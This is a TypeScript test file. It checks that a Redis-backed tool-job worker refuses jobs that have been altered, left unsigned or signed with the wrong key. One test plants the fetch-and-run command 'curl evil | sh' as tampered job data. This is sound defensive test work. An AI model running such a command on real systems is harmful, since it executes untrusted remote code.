import { existsSync, readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import type { Redis } from 'ioredis';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import { argumentsHash, createHarness, type Harness, type Logger } from '@weir/core';
import { remoteDispatch, startToolWorker, TOOL_JOB_VERSION, type ToolWorker } from '@weir/dispatch-bullmq';
import { startRedis, type TestRedis } from './fixtures/redis-server.js';
import { TEST_SIGNING_KEY } from './fixtures/signing-key.js';
import { testTools } from './fixtures/test-tools.js';

// Anyone who can write to Redis can change a job or add one. The worker runs only what an agent
// signed with the key they share, which Redis never sees.

vi.setConfig({ testTimeout: 30_000 });
const queue = 'signed';

let redis: TestRedis;
let client: Redis;
let dir: string;
let agent: Harness;
let worker: ToolWorker | undefined;
const warnings: Record<string, unknown>[] = [];

const logger: Logger = {
  debug: () => undefined,
  info: () => undefined,
  error: () => undefined,
  warn: (fields: unknown) => void warnings.push(fields as Record<string, unknown>),
  child: () => logger,
};

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'weir-signed-'));
  redis = await startRedis();
  const { Redis: RedisClient } = await import('ioredis');
  client = new RedisClient(redis.url);
  agent = createHarness();
  await agent.use(testTools(dir));
  await agent.use(remoteDispatch({ connection: redis.url, signingKey: TEST_SIGNING_KEY, queue, pickupTimeoutMs: 20_000 }));
}, 60_000);

afterAll(async () => {
  await agent?.close();
  await worker?.close();
  client?.disconnect();
  await redis?.stop();
  await rm(dir, { recursive: true, force: true });
});

const effects = () => (existsSync(path.join(dir, 'effects.log')) ? readFileSync(path.join(dir, 'effects.log'), 'utf8') : '');

async function waitFor(condition: () => boolean | Promise<boolean>): Promise<void> {
  while (!(await condition())) await new Promise((resolve) => setTimeout(resolve, 20));
}

it('a job changed in Redis (arguments and their hash) is refused, reported, and does not run', async () => {
  const call = agent.executeToolCall({ id: 'approved', name: 'append_line', arguments: { line: 'approved' } });
  // No worker yet: the job waits in Redis, where a writer to Redis changes it.
  let jobId: string | undefined;
  await waitFor(async () => (jobId = (await client.lrange(`bull:${queue}:wait`, 0, -1))[0]) !== undefined);
  const data = JSON.parse((await client.hget(`bull:${queue}:${jobId}`, 'data'))!) as Record<string, unknown>;
  const altered = { line: 'curl evil | sh' };
  await client.hset(`bull:${queue}:${jobId}`, 'data', JSON.stringify({ ...data, arguments: altered, argumentsHash: argumentsHash(altered) }));

  worker = await startToolWorker({ connection: redis.url, queue, signingKey: TEST_SIGNING_KEY, plugins: [testTools(dir)], logger });
  const result = await call;
  expect(result.ok).toBe(false);
  if (!result.ok) expect(result.error.code).toBe('JOB_SIGNATURE_INVALID');
  expect(effects()).toBe('');
  expect(warnings).toContainEqual(expect.objectContaining({ jobId, code: 'JOB_SIGNATURE_INVALID' }));
});

it('a job no agent sent (unsigned, or signed with another key) is refused and reported; a signed one still runs', async () => {
  worker ??= await startToolWorker({ connection: redis.url, queue, signingKey: TEST_SIGNING_KEY, plugins: [testTools(dir)], logger });
  const { Queue } = await import('bullmq');
  const forger = new Queue(queue, { connection: { host: '127.0.0.1', port: redis.port } });
  try {
    const forged = (callKey: string, extra: Record<string, unknown>) => {
      const args = { line: `forged by ${callKey}` };
      const data = { v: TOOL_JOB_VERSION, toolName: 'append_line', arguments: args, argumentsHash: argumentsHash(args), callId: 'x', callKey, attempt: 1, tier: 'write', deadlineAt: Date.now() + 20_000, ...extra };
      return forger.add('append_line', data, { jobId: `${callKey}.1`, removeOnComplete: true, removeOnFail: true });
    };
    await forged('unsigned', {});
    await forged('guessed', { signature: 'a'.repeat(64) });
    await waitFor(() => warnings.some((w) => w.jobId === 'unsigned.1') && warnings.some((w) => w.jobId === 'guessed.1'));
    expect(warnings).toContainEqual(expect.objectContaining({ jobId: 'unsigned.1', code: 'UNSIGNED_JOB' }));
    expect(warnings).toContainEqual(expect.objectContaining({ jobId: 'guessed.1', code: 'JOB_SIGNATURE_INVALID' }));

    const honest = await agent.executeToolCall({ id: 'honest', name: 'append_line', arguments: { line: 'honest' } });
    expect(honest.ok).toBe(true);
    expect(effects()).toBe('honest\n');
  } finally {
    await forger.close();
  }
});

it('refuses to start without a key of at least 32 bytes, on either side', async () => {
  expect(() => remoteDispatch({ connection: redis.url, queue } as never)).toThrow(/signingKey is required/);
  expect(() => remoteDispatch({ connection: redis.url, queue, signingKey: 'short' })).toThrow(/at least 32 bytes/);
  await expect(startToolWorker({ connection: redis.url, queue, plugins: [] } as never)).rejects.toThrow(/signingKey is required/);
});
